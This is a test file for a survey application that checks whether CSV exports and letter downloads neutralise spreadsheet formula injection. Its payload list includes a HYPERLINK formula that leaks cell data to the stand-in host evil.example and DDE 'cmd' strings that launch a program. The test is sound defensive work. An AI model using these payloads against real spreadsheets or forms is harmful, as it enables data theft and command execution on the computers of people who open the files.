import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { commandLine } from '../../server/audit/audit.service.ts';
import { writeExport } from '../../server/exports/exports.service.ts';
import { lettersCsv } from '../../server/letters/letters.ts';
import { createTestApp, seedMiniStudies, startSession, submitAnswers, type TestApp } from '../helpers/app.ts';
import { collector } from '../exports/helpers.ts';
import { parseCsv } from '../exports/read-csv.ts';

/**
 * A respondent's free text that a spreadsheet would run as a formula reaches the exports as text:
 * every cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is neutralised.
 */

const payloads = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1;=2,"=3"',
  'x;=1+1',
  'x,=1+1',
  'ja; "=2+2"',
  'a\t@SUM(1)',
];

/**
 * How a spreadsheet splits one line on its list separator: a field that starts with a quote runs
 * to the closing quote, any other field to the next separator (a quote inside it is just a character).
 */
function splitLikeASpreadsheet(line: string, separator: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let field = '';
      i++;
      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
        field += line[i];
        i += line[i] === '"' ? 2 : 1;
      }
      const next = line.indexOf(separator, i);
      fields.push(field + line.slice(i + 1, next < 0 ? line.length : next));
      i = next < 0 ? line.length + 1 : next + 1;
    } else {
      const next = line.indexOf(separator, i);
      fields.push(line.slice(i, next < 0 ? line.length : next));
      i = next < 0 ? line.length + 1 : next + 1;
    }
  }
  return fields;
}

describe('CSV formula injection in exports', () => {
  let t: TestApp;
  before(async () => {
    t = await createTestApp();
    const panel = await seedMiniStudies(t.services, payloads.length);
    for (const [i, text] of payloads.entries()) {
      const session = (await startSession(t.app, { token: panel.tokens[i] })).body;
      const saved = await submitAnswers(t.app, session, { pageNo: 2, complete: true, answers: { consent: true, health: 5, remarks: text } });
      assert.equal(saved.status, 200, JSON.stringify(saved.body));
    }
  });
  after(() => t.close());

  for (const format of ['long', 'wide'] as const) {
    for (const excelNl of [false, true]) {
      it(`neutralises formulas in the ${format} CSV${excelNl ? ' for Excel in Dutch' : ''}`, async () => {
        const sink = collector();
        await writeExport({ database: t.services.database, surveys: t.services.surveys, definitions: t.services.definitions, studyId: 'mini-panel', format, excelNl, out: sink.out, actor: commandLine });
        const rows = parseCsv(sink.text().replace(/^\uFEFF/, ''), excelNl ? ';' : ',');
        assert.equal(rows.length, payloads.length);
        const remarksColumn = Object.keys(rows[0]!).find((name) => /(^|_)remarks$/.test(name));
        assert.ok(remarksColumn, 'the free text is exported');
        const exported = rows.map((row) => row[remarksColumn]!).sort();
        for (const cell of exported) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a cell starts like a formula: ${JSON.stringify(cell)}`);
        for (const row of rows) for (const [name, cell] of Object.entries(row)) assert.ok(!/^[=+@\t\r]/.test(cell), `${name} starts like a formula: ${JSON.stringify(cell)}`);
        for (const text of payloads.filter((p) => /^[=+\-@\t]/.test(p) && !/[,;\t]/.test(p))) {
          assert.ok(exported.includes(`'${text}`), `kept as text behind an apostrophe: ${JSON.stringify(text)}`);
        }
      });

      it(`no cell of the ${format} CSV${excelNl ? ' for Excel in Dutch' : ''} starts like a formula when a spreadsheet splits it on a comma, a semicolon or a tab`, async () => {
        const sink = collector();
        await writeExport({ database: t.services.database, surveys: t.services.surveys, definitions: t.services.definitions, studyId: 'mini-panel', format, excelNl, out: sink.out, actor: commandLine });
        const lines = sink.text().replace(/^\uFEFF/, '').split('\r\n').slice(1);
        for (const separator of [',', ';', '\t']) {
          for (const line of lines) {
            for (const cell of splitLikeASpreadsheet(line, separator)) {
              assert.ok(!/^[=+@\t\r]|^-[^0-9]/.test(cell), `split on ${JSON.stringify(separator)}, a cell starts like a formula: ${JSON.stringify(cell)}`);
            }
          }
        }
      });
    }
  }
});

describe('CSV formula injection in the letters download', () => {
  it('neutralises and quotes every cell like the exports, since the letters CSV uses the same writer', () => {
    const letters = payloads.map((pseudonym, i) => ({ participantId: i, pseudonym, language: 'nl', token: 'ABCDEFGHJK' }));
    const lines = lettersCsv(letters, 'https://wavepanel.example').split('\r\n').slice(1, -1);
    assert.equal(lines.length, payloads.length);
    for (const separator of [',', ';', '\t']) {
      for (const line of lines) {
        for (const cell of splitLikeASpreadsheet(line, separator)) {
          assert.ok(!/^[=+@\t\r]|^-[^0-9]/.test(cell), `split on ${JSON.stringify(separator)}, a cell starts like a formula: ${JSON.stringify(cell)}`);
        }
      }
    }
    assert.deepEqual(parseCsv(lettersCsv(letters.slice(0, 1), 'https://wavepanel.example'), ',')[0]!.pseudonym, `'${payloads[0]}`);
  });
});
